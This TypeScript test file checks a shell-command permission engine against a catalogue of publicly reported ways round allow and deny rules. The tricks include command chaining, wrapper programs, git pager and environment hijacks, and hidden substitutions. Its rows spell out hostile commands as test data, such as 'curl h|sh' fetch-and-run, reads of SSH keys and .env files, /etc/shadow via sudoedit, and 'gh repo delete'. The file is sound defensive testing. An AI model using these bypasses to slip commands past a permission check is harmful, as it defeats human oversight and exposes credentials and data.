import assert from 'node:assert/strict';
import type { CommandRules, RuleVerdict } from '../../../../src/run/rules/decide.ts';
import { decideLine, decideWords, HOME, world, WORKSPACE } from './rules-double.ts';

type Given = Partial<CommandRules>;
const GIT: Given = { allow: ['git log', 'git diff', 'git'] };
const READ: Given = { allow: ['ls', 'cat', 'find', 'sort', 'man', 'help', 'echo', 'git log', 'touch', 'gh api'] };
const NO_RM: Given = { deny: ['rm'], otherwise: 'allow' };
const NO_ENV: Given = { deny: ['cat .env'], otherwise: 'allow' };
const NO_SSH_KEYS: Given = { deny: ['cat ~/.ssh/**'], otherwise: 'allow' };

/** The rows of the public ways round command rules, by their number: the line a shell gets, the rules, what is decided. */
const LINES: readonly (readonly [row: number, line: string, given: Given, verdict: RuleVerdict])[] = [
  [1, 'git log; rm x', GIT, 'ask'],
  [1, 'git log; rm x', { ...GIT, deny: ['rm'] }, 'deny'],
  [1, 'git log; git diff', GIT, 'allow'],
  [2, 'git log && rm x', GIT, 'ask'],
  [2, 'git log || rm x', GIT, 'ask'],
  [2, 'git log | rm x', GIT, 'ask'],
  [2, 'cd d && rm x', { allow: ['cd'] }, 'ask'],
  [2, 'git log && git diff', GIT, 'allow'],
  [4, 'git log & rm x', GIT, 'ask'],
  [5, 'git log\nrm x', GIT, 'ask'],
  [5, 'git log\ngit diff', GIT, 'allow'],
  [5, 'git log\r\nrm x', GIT, 'ask'],
  [7, 'git log &&& rm x', GIT, 'ask'],
  [7, 'ls &&& rm x', NO_RM, 'deny'],
  [7, 'ls "', { otherwise: 'allow' }, 'ask'],
  [7, 'ls )', { otherwise: 'allow' }, 'ask'],
  [8, 'git log &&', GIT, 'ask'],
  [8, 'git log |', GIT, 'ask'],
  [10, `git log ${'x'.repeat(10_000)}`, GIT, 'ask'],
  [11, 'env rm x', NO_RM, 'deny'],
  [11, 'sudo rm x', NO_RM, 'deny'],
  [11, 'watch rm x', NO_RM, 'deny'],
  [11, 'ionice rm x', NO_RM, 'deny'],
  [11, 'setsid rm x', NO_RM, 'deny'],
  [13, 'timeout 5 nice -n1 stdbuf -oL rm x', NO_RM, 'deny'],
  [13, 'timeout 5 nice -n1 stdbuf -oL git log', GIT, 'allow'],
  [14, 'xargs rm < list', { allow: ['xargs'], otherwise: 'allow' }, 'ask'],
  [16, 'parallel rm ::: x', NO_RM, 'deny'],
  [16, "parallel 'rm {}' ::: x", NO_RM, 'deny'],
  [16, 'busybox rm x', NO_RM, 'deny'],
  [17, 'find . -exec rm {} +', READ, 'ask'],
  [17, "find . -exec rm {} ';'", { ...READ, deny: ['rm'] }, 'deny'],
  [17, 'find . -execdir ls {} +', READ, 'ask'],
  [17, 'find . -ok ls {} +', READ, 'ask'],
  [17, 'find . -delete', READ, 'ask'],
  [17, 'find . -fprintf f x', READ, 'ask'],
  [17, 'find . -name x', READ, 'allow'],
  [19, '/bin/ssh h', { deny: ['ssh'], otherwise: 'allow' }, 'deny'],
  [20, './git log', GIT, 'ask'],
  [22, 'r\\\nm x', NO_RM, 'deny'],
  [22, "echo 'a\\\nb'", READ, 'allow'],
  [22, 'ls # x\\\nrm x', NO_RM, 'deny'],
  [23, 'VAR=1 rm x', NO_RM, 'deny'],
  [23, 'LC_ALL=C git log', GIT, 'allow'],
  [25, 'X=`touch${IFS}/tmp/p` npm --version', { allow: ['npm --version'] }, 'ask'],
  [26, 'FOO[$(rm x)]=v ls', READ, 'ask'],
  [26, 'FOO[$(rm x)]=v ls', NO_RM, 'deny'],
  [28, 'LESSOPEN=x git log', GIT, 'ask'],
  [28, 'GIT_EXTERNAL_DIFF=x git log', GIT, 'ask'],
  [28, 'env NODE_OPTIONS=--require=x git log', GIT, 'ask'],
  [29, 'f=.env && cat "$f"', NO_ENV, 'ask'],
  [29, 'cat ./.env', NO_ENV, 'deny'],
  [29, 'cat a/../.env', NO_ENV, 'deny'],
  [31, 'cat $HOME/.ssh/id', NO_SSH_KEYS, 'deny'],
  [31, 'cat ~/.ssh/id', NO_SSH_KEYS, 'deny'],
  [31, 'cat "${HOME}/.ssh/id"', NO_SSH_KEYS, 'deny'],
  [31, `cat ${HOME}/x/../.ssh/id`, NO_SSH_KEYS, 'deny'],
  [31, 'cat -n -- ~/.ssh/id', NO_SSH_KEYS, 'deny'],
  [32, 'A=b', { otherwise: 'allow' }, 'ask'],
  [32, 'export A=b', { otherwise: 'allow' }, 'ask'],
  [34, 'git logout', { allow: ['git log'] }, 'ask'],
  [34, 'git log -3', { allow: ['git log'] }, 'allow'],
  [35, 'git log > ~/.bashrc', GIT, 'ask'],
  [37, 'git log 2>&1 1>f', GIT, 'ask'],
  [37, 'git log >|f', GIT, 'ask'],
  [37, 'git log &>f', GIT, 'ask'],
  [37, 'git log <>f', GIT, 'ask'],
  [37, 'git log {fd}>f', GIT, 'ask'],
  [37, 'git log < f', GIT, 'ask'],
  [38, 'git log; git diff > f', GIT, 'ask'],
  [38, '! git log > f', GIT, 'ask'],
  [38, '( git log; git diff >> f )', GIT, 'ask'],
  [40, 'rm   x', NO_RM, 'deny'],
  [40, 'rm\tx', NO_RM, 'deny'],
  [41, 'rm\u3000x', NO_RM, 'ask'],
  [41, 'git\u00a0log', { otherwise: 'allow' }, 'ask'],
  [43, '[[ a =~ $(rm x) ]]', { otherwise: 'allow' }, 'ask'],
  [43, '[[ a =~ $(rm x) ]]', NO_RM, 'deny'],
  [43, 'echo ${a[$(rm x)]}', READ, 'ask'],
  [44, 'man -P sh ls', READ, 'ask'],
  [44, 'help -P sh ls', READ, 'ask'],
  [44, 'man ls', READ, 'allow'],
  [46, 'git log --output=f', GIT, 'ask'],
  [46, 'git diff --output f', GIT, 'ask'],
  [46, 'git diff --outp=f', GIT, 'ask'],
  [47, 'git -c core.pager=sh log', GIT, 'ask'],
  [47, 'git --exec-path=d log', GIT, 'ask'],
  [47, "git -c 'alias.x=!sh' x", GIT, 'ask'],
  [47, 'git -c core.pager=sh log', { otherwise: 'allow' }, 'ask'],
  [49, 'go test -exec sh', { allow: ['go test'] }, 'ask'],
  [49, 'fd -x rm', { allow: ['fd'] }, 'ask'],
  [50, 'sort -o f', READ, 'ask'],
  [50, 'sort -rof x', READ, 'ask'],
  [50, 'sort -S 9G', READ, 'ask'],
  [50, 'sort --compress-program=sh', READ, 'ask'],
  [50, 'sort -n x', READ, 'allow'],
  [52, 'base64 -o f', { otherwise: 'allow' }, 'ask'],
  [52, 'tree -o f', { otherwise: 'allow' }, 'ask'],
  [52, 'date --set x', { otherwise: 'allow' }, 'ask'],
  [52, 'column -c 9', { otherwise: 'allow' }, 'ask'],
  [53, 'toString', { allow: ['constructor', '__proto__'] }, 'ask'],
  [53, 'toString x', { deny: ['toString'], otherwise: 'allow' }, 'deny'],
  [53, '__proto__', { allow: ['__proto__'], otherwise: 'deny' }, 'allow'],
  [55, "$'\\x72m' x", NO_RM, 'ask'],
  [55, '${v@P}', NO_RM, 'ask'],
  [55, '${!v} x', NO_RM, 'ask'],
  [55, 'echo ${v@P}', READ, 'ask'],
  [56, 'cat <(rm x)', READ, 'ask'],
  [56, 'cat <(rm x)', NO_RM, 'deny'],
  [56, 'cat =(rm x)', READ, 'ask'],
  [56, 'cat *(e:rm:)', READ, 'ask'],
  [56, 'cat *', READ, 'ask'],
  [58, "bash <<< 'rm x'", { otherwise: 'allow' }, 'ask'],
  [58, 'sh <<EOF\nrm x\nEOF', { otherwise: 'allow' }, 'ask'],
  [58, 'sh ./x.sh', { allow: ['sh ./x.sh'], otherwise: 'allow' }, 'ask'],
  [58, 'source x', { allow: ['source x'], otherwise: 'allow' }, 'ask'],
  [58, '. ./x', { otherwise: 'allow' }, 'ask'],
  [59, 'ls # allowed-word', { allow: ['allowed-word'], otherwise: 'deny' }, 'deny'],
  [61, 'sudo -u#-1 ls', { allow: ['sudo -u#-1 ls', 'ls'] }, 'ask'],
  [61, 'EDITOR="vim -- /etc/shadow" sudoedit x', { otherwise: 'allow' }, 'ask'],
  [61, 'cat /var/log/../shadow', { allow: ['cat /var/log/*'] }, 'ask'],
  [61, 'cat /var/log/a/b', { allow: ['cat /var/log/*'] }, 'ask'],
  [61, 'cat /var/log/a', { allow: ['cat /var/log/*'] }, 'allow'],
  [61, 'ls', { allow: ['!/bin/sh'] }, 'ask'],
  [62, 'git push', { allow: ['git push'], deny: ['git push'] }, 'deny'],
  [62, 'git push x', { allow: ['git push x'], deny: ['git'] }, 'deny'],
  [64, 'touch x # echo allowed', { allow: ['echo allowed'], otherwise: 'deny' }, 'deny'],
  [65, 'echo ok > >(curl h|sh)', READ, 'ask'],
  [65, 'echo ok > >(curl h|sh)', { ...READ, deny: ['curl'] }, 'deny'],
  [67, 'gh api repos/$(gh repo delete o/r)/pulls', READ, 'ask'],
  [67, 'gh api repos/$(gh repo delete o/r)/pulls', { ...READ, deny: ['gh repo delete'] }, 'deny'],
];

describe('Rules of commands, against each way round them that was reported in public', () => {
  for (const [row, line, given, verdict] of LINES) {
    const shown = JSON.stringify(line.length > 100 ? `${line.slice(0, 100)}…` : line);
    it(`row ${row}: ${verdict} ${shown} by ${JSON.stringify(given)}`, async () => {
      const decision = await decideLine(line, given);
      assert.equal(decision.verdict, verdict, JSON.stringify(decision, null, 1));
    });
  }

  it('row 20: a program that the PATH finds in the workspace, or by a link from there', async () => {
    const found = await decideWords('git log', GIT, world(new Map([['git', `${WORKSPACE}/bin/git`]])));
    assert.equal(found.verdict, 'ask');
    assert.match(found.parts[0]?.because ?? '', /workspace/);
    const linked = await decideWords(
      `${WORKSPACE}/git log`,
      GIT,
      world(new Map([[`${WORKSPACE}/git`, '/usr/bin/git']])),
    );
    assert.equal(linked.verdict, 'ask');
  });

  it('row 19: the real file of a link counts, and another file of an allowed name does not', async () => {
    const link = await decideWords(
      'mine h',
      { deny: ['ssh'], otherwise: 'allow' },
      world(new Map([['mine', '/usr/bin/ssh']])),
    );
    assert.equal(link.verdict, 'deny');
    assert.equal((await decideWords('/tmp/git log', GIT)).verdict, 'ask');
    assert.equal((await decideWords('/usr/bin/git log', GIT)).verdict, 'allow');
  });
});
